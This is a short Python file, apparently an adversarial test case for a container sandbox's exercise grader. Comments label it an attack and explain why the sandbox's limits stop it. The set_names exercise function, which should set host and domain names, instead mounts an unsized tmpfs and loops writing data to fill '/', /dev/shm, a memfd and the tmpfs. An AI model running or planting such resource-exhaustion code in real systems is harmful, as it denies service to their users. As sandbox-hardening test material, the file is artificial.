# attack: fills every file system that it can write to: "/", /dev/shm, a memfd, and a tmpfs of its own without a size
# fails: all of them are memory: "/" and /dev/shm have a size, RLIMIT_FSIZE holds for a file, and all of it counts as
#   the sandbox's
# status: graded|timeout

# %%exercise uts.set_names
import os

from minicontainer.linux import mount


def set_names(host, domain=None):
    os.makedirs("/run/hoard", exist_ok=True)
    mount("tmpfs", "/run/hoard", "tmpfs", 0, "size=100%")
    files = [os.memfd_create("hoard")]
    for place in ("/hoard", "/dev/shm/hoard", *(f"/run/hoard/{number}" for number in range(100))):
        files.append(os.open(place, os.O_CREAT | os.O_WRONLY))
    for file in files:
        try:
            while True:
                os.write(file, b"x" * (1 << 20))
        except OSError:
            pass
